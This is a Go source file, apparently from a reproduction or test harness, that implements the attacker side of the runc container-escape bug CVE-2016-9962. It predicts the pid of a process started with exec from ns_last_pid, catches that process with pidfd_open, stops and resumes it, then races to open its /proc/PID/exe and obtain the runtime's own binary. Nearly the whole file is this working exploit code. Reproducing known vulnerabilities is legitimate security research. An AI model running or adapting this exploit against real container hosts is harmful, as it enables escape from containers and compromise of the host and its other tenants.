package main

// seize is the attacker of CVE-2016-9962 (runc: a process `exec` starts
// in a container is visible to the container's own processes while it
// still runs the runtime's code and holds its descriptors). For each of
// -n processes lodger exec starts in its pid namespace, it stops the
// process the moment it exists, lets it go, and then tries to open its
// /proc/PID/exe as fast as it can until the process has exec'd the user's
// command. Until the process has dropped to the container's capabilities
// the kernel refuses that anyway (the caller's capabilities must be a
// superset of the target's); from then until execve only
// non-dumpability refuses it. Whatever exe it opens that is not the
// image's busybox is the runtime's own binary: the attack.
//
// Prediction, not luck, finds the process: the kernel gives the next
// process of a pid namespace ns_last_pid+1, and pidfd_open(2) on that pid
// in a loop gets it at once; SIGSTOP (which cannot be blocked) stops it
// on its first return to user space, so the spinning starts before the
// process has done anything.

import (
	"errors"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func seize(args []string) error {
	fs := newFlags("seize")
	timeout := fs.Duration("timeout", 60*time.Second, "give up when a process does not appear or does not exec this long")
	rounds := fs.Int("n", 1, "processes to seize, one after another")
	want := fs.String("want", "/bin/busybox", "the exe of the user's command: the end of a round")
	if _, err := parseArgs(fs, args); err != nil {
		return err
	}
	caught := 0
	for i := 1; i <= *rounds; i++ {
		res, err := seizeOne(*timeout, *want)
		if err != nil {
			return err
		}
		if strings.HasPrefix(res, "caught") {
			caught++
		}
		fmt.Printf("round %d %s\n", i, res)
	}
	fmt.Printf("done rounds %d caught %d\n", *rounds, caught)
	return nil
}

// seizeOne waits for the next process, and returns "caught TARGET" when it
// opened an exe other than want; else "missed refused N" (the process
// became want after N refused opens), "gone refused N" (it ended before
// it was seen as want), or "unseen" (it came and went while this thread
// was off its CPU).
func seizeOne(timeout time.Duration, want string) (string, error) {
	b, err := os.ReadFile("/proc/sys/kernel/ns_last_pid")
	if err != nil {
		return "", err
	}
	last, err := strconv.Atoi(strings.TrimSpace(string(b)))
	if err != nil {
		return "", fmt.Errorf("ns_last_pid %q: %w", b, err)
	}
	pid := last + 1
	fmt.Println("ready", pid)
	deadline := time.Now().Add(timeout)
	// A thread the Go runtime starts here takes a pid of the same
	// namespace: pidfd_open refuses a thread that leads no process
	// (EINVAL), and the process lodger exec makes is the next pid on.
	var pidfd int
	var allocated time.Time
	for {
		pidfd, err = unix.PidfdOpen(pid, 0)
		if err == nil {
			break
		}
		switch {
		case errors.Is(err, unix.EINVAL):
			pid++
			continue
		case !errors.Is(err, unix.ESRCH) && !errors.Is(err, unix.ENOENT):
			return "", fmt.Errorf("pidfd_open %d: %w", pid, err)
		}
		// The pid is allocated (ns_last_pid) a moment before the
		// process can be found, so only a pid allocated long ago and
		// still not found means it came and went while this thread was
		// off its CPU, as on a loaded machine.
		if allocated.IsZero() {
			if b, err := os.ReadFile("/proc/sys/kernel/ns_last_pid"); err == nil {
				if n, err := strconv.Atoi(strings.TrimSpace(string(b))); err == nil && n >= pid {
					allocated = time.Now()
				}
			}
		} else if time.Since(allocated) > 500*time.Millisecond {
			return "unseen", nil
		}
		if time.Now().After(deadline) {
			tasks, _ := os.ReadDir("/proc/self/task")
			var ids []string
			for _, t := range tasks {
				ids = append(ids, t.Name())
			}
			return "", fmt.Errorf("no process %d appeared in %s (last pid was %d; own threads %s)", pid, timeout, last, strings.Join(ids, ","))
		}
	}
	defer unix.Close(pidfd)
	if err := unix.PidfdSendSignal(pidfd, unix.SIGSTOP, nil, 0); err != nil {
		return "", fmt.Errorf("stop pid %d: %w", pid, err)
	}
	exe := fmt.Sprintf("/proc/%d/exe", pid)
	if err := unix.PidfdSendSignal(pidfd, unix.SIGCONT, nil, 0); err != nil {
		return "", fmt.Errorf("continue pid %d: %w", pid, err)
	}
	// Once caught, it goes on until the process is the user's command,
	// so that the next round starts after it.
	refused, caught := 0, ""
	for {
		fd, err := unix.Open(exe, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			target, _ := os.Readlink(exe)
			unix.Close(fd)
			switch {
			case target != want && caught == "":
				caught = "caught " + target
			case target == want && caught != "":
				return caught, nil
			case target == want:
				return fmt.Sprintf("missed refused %d", refused), nil
			}
			continue
		}
		switch {
		case errors.Is(err, unix.EACCES), errors.Is(err, unix.EPERM):
			refused++
		case errors.Is(err, unix.ENOENT), errors.Is(err, unix.ESRCH):
			if caught != "" {
				return caught, nil
			}
			return fmt.Sprintf("gone refused %d", refused), nil
		default:
			return "", fmt.Errorf("open %s: %w", exe, err)
		}
		if time.Now().After(deadline) {
			st, _ := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
			return "", fmt.Errorf("pid %d did not exec %s in %s (refused %d, stat %s)", pid, want, timeout, refused, st)
		}
	}
}
